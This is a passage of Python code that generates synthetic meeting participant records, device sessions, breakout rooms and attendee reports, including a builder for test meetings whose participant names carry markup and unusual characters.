            entry["joinedTime"] = _iso_z(first)
        if last is not None:
            entry["leftTime"] = _iso_z(last)
        elif plan.live and plan.state == "ended":
            entry["leftTime"] = PLACEHOLDER_TIME
        entry["siteUrl"] = self.org.site_url
        entry["meetingId"] = plan.meeting_id
        entry["hostEmail"] = plan.host.email
        entry["devices"] = devices
        if plan.breakouts and category != "lobby" and first is not None and last is not None:
            attended = self._breakouts(first, last)
            if attended:
                entry["breakoutSessionsAttended"] = attended
        if person.kind == "partner" and rng.random() < 0.03:
            entry["sourceId"] = "crm-campaign-7"
        return entry

    def _presence(self, role: str) -> tuple[int, int]:
        """When someone was in the meeting: the host spans it, others come late/leave early."""
        plan = self.plan
        s, e = plan.start, plan.end
        if role == "host" or e - s < 240:
            return s, e
        slack = min(600, (e - s) // 4)
        join = s + self.rng.randint(0, slack)
        leave = e - self.rng.randint(0, slack)
        if self.rng.random() < 0.15:
            leave = join + int((leave - join) * self.rng.uniform(0.3, 0.9))
        return join, max(leave, join + 60)

    def _joined_devices(self, role: str, pattern: str) -> tuple[list[JSON], int | None, int | None]:
        """Devices of someone admitted to the meeting, and their first join / last leave."""
        rng = self.rng
        join, leave = self._presence(role)
        live_running = self.plan.state == "inProgress"
        live_unfinished = self.plan.live and not live_running and rng.random() < 0.5
        devices: list[JSON] = []
        for s, e in self._sessions(join, leave, pattern):
            device_type = rng.choice(_DEVICE_TYPES)
            audio = "voip" if rng.random() < 0.9 else "inactive"
            if live_running:
                devices.append(self._device(s, None, device_type=device_type, audio=audio))
            elif live_unfinished:
                device = self._device(s, None, device_type=device_type, audio=audio)
                device["leftTime"] = PLACEHOLDER_TIME  # not final: the meeting just ended
                devices.append(device)
            else:
                devices.append(self._device(s, e, device_type=device_type, audio=audio))
        if pattern == "dual" and leave - join > 120:
            # Laptop for video plus the phone for audio (the meeting called them back).
            devices[0]["audioType"] = "inactive"
            devices.append(
                self._device(
                    join + 15,
                    None if live_running else leave - 5,
                    device_type="phone",
                    audio="pstn",
                    call_type="callBack",
                    phone=self._phone_number(),
                )
            )
        if live_running or live_unfinished:
            return devices, join, None  # no final leave time yet
        return devices, join, leave

    def _lobby_devices(self) -> tuple[list[JSON], int | None, int | None]:
        """A lobby-only participant: waited, was never admitted, gave up."""
        plan = self.plan
        span = max(1, plan.end - plan.start - 60)
        join = plan.start + self.rng.randrange(span)
        leave = min(plan.end, join + self.rng.randint(30, 900))
        if plan.state == "inProgress":
            device = self._device(
                join, None, device_type=self.rng.choice(_DEVICE_TYPES), audio="inactive"
            )
            return [device], join, None
        device = self._device(
            join, leave, device_type=self.rng.choice(_DEVICE_TYPES), audio="inactive"
        )
        return [device], join, leave

    def _phone_caller(self) -> JSON:
        """A PSTN caller: no email, no orgId, a ``Call-in User`` or number as the name."""
        plan = self.plan
        rng = self.rng
        self.phone_serial += 1
        number = self._phone_number()
        join, leave = self._presence("attendee")
        running = plan.state == "inProgress"
        call_type = "callIn" if rng.random() < 0.7 else "callBack"
        device = self._device(
            join,
            None if running else leave,
            device_type="phone",
            audio="pstn",
            call_type=call_type,
            phone=number,
        )
        entry: JSON = {
            "id": f"{plan.meeting_id}_{_uuid(rng)}",
            "host": False,
            "coHost": False,
            "displayName": f"Call-in User_{self.phone_serial}" if rng.random() < 0.6 else number,
            "invitee": False,
            "muted": rng.random() < 0.5,
            "meetingStartTime": _iso_z(plan.start),
            "video": "off",
            "state": "joined" if running else "end",
            "joinedTime": _iso_z(join),
        }
        if not running:
            entry["leftTime"] = _iso_z(leave)
        entry.update(
            {
                "siteUrl": self.org.site_url,
                "meetingId": plan.meeting_id,
                "hostEmail": plan.host.email,
                "devices": [device],
            }
        )
        return entry

    def _breakouts(self, first: int, last: int) -> list[JSON]:
        """Breakout sessions attended within [first, last], mid-meeting."""
        plan = self.plan
        rng = self.rng
        if rng.random() >= 0.6:
            return []
        b_start = plan.start + (plan.end - plan.start) * 3 // 10
        b_end = plan.start + (plan.end - plan.start) * 6 // 10
        s, e = max(first, b_start), min(last, b_end)
        if e - s < 120:
            return []
        first_room = rng.randrange(len(plan.breakouts))
        rooms = [first_room]
        if rng.random() < 0.25 and len(plan.breakouts) > 1:
            rooms.append((first_room + 1) % len(plan.breakouts))
        step = (e - s) // len(rooms)
        attended = []
        for n, room in enumerate(rooms):
            room_id, name = plan.breakouts[room]
            attended.append(
                {
                    "id": room_id,
                    "name": name,
                    "joinedTime": _iso_z(s + n * step),
                    "leftTime": _iso_z(s + (n + 1) * step),
                }
            )
        return attended

    # -- attendee report --------------------------------------------------------------------

    def _report_row(self, entry: JSON) -> JSON:
        """One ``MeetingAttendeeReportObject`` row from a participant who was admitted."""
        plan = self.plan
        rng = self.rng
        joined = datetime.fromisoformat(entry["joinedTime"]).timestamp()
        left = datetime.fromisoformat(entry["leftTime"]).timestamp()
        row: JSON = {
            "meetingId": plan.meeting_id,
            "meetingNumber": plan.meeting_number,
            "meetingTitle": plan.title,
            "displayName": entry.get("displayName", ""),
        }
        if "email" in entry:
            row["email"] = entry["email"]
        email = entry.get("email") or ""
        domain = email.rpartition("@")[2].lower()
        company = (
            self.org.org_name
            if domain in self.org.domains
            else next((c for c, d in _PARTNERS if d == domain), "")
        )
        row.update(
            {
                "joinedTime": entry["joinedTime"],
                "leftTime": entry["leftTime"],
                "duration": max(1, round((left - joined) / 60)),
                "participantType": "host" if entry.get("host") else "attendee",
                "ipAddress": f"{rng.choice(('192.0.2', '198.51.100', '203.0.113'))}."
                f"{rng.randint(1, 254)}",
                "clientAgent": rng.choice(_CLIENT_AGENTS),
                "company": company,
                "registered": False,
                "invited": bool(entry.get("invitee")),
            }
        )
        phones = [d["phoneNumber"] for d in entry.get("devices", []) if "phoneNumber" in d]
        if phones:
            row["phoneNumber"] = phones[0]
        return row


class _HostileBuilder(_MeetingBuilder):
    """The ``hostile=True`` meeting: every participant and invitee carries hostile text."""

    def build(self) -> _Bundle:
        """Participants and invitees with markup, CSS, bidi/zero-width and oversized names."""
        plan = self.plan
        participants = [self._participant(plan.host, role="host", category="staff", invited=False)]
        invitees: list[JSON] = []
        for n, (display, email) in enumerate(_HOSTILE_PEOPLE):
            person = _Person(-1 - n, display, email, None, "hostile", "", _uuid(self.rng))
            participants.append(
                self._participant(
                    person, role="attendee", category="guest", invited=email is not None
                )
            )
            if email is not None:
                invitees.append(
                    {
                        "id": f"{plan.series_id}_{1000000 + n}",
                        "email": email,
                        "displayName": display,
                        "coHost": False,
                        "meetingId": plan.meeting_id,
                        "panelist": False,
                    }
                )
        invitees.sort(key=lambda i: (i["email"].strip().lower(), i["id"]))
        report = [self._report_row(p) for p in participants]
        return _Bundle(participants, invitees, report)
